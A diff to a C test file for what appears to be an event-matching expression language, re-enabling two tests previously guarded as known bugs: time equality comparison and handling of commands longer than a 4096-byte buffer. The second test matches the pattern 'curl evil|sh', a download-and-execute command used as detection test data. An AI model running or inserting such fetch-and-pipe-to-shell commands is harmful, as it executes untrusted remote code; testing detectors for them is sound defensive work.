@@ -602,7 +602,6 @@ K8A_TEST(expr_keywords_and_names)
 	CHECK_EQ_INT(mk("verb in(create)"), 1);
 }
 
-#ifdef K8A_TEST_KNOWN_BUGS
 K8A_TEST(expr_time_equality_is_temporal)
 {
 	/* <, <=, >, >= on time compare instants, but = compares text
@@ -613,9 +612,7 @@ K8A_TEST(expr_time_equality_is_temporal)
 	CHECK_EQ_INT(mk("time=2026-03-01T11:00:00.123456+01:00"), 1);
 	CHECK_EQ_INT(mc("time=2026-03-01T11:00:00.000Z"), 1);
 }
-#endif
 
-#ifdef K8A_TEST_KNOWN_BUGS
 K8A_TEST(expr_command_longer_than_4k)
 {
 	/* eval_pred() (expr.c) decodes the command into a 4096-byte buffer
@@ -633,4 +630,3 @@ K8A_TEST(expr_command_longer_than_4k)
 	CHECK_EQ_INT(t_match("command*='curl evil|sh'", doc), 1);
 	CHECK_EQ_INT(t_match("command~'curl'", doc), 1);
 }
-#endif
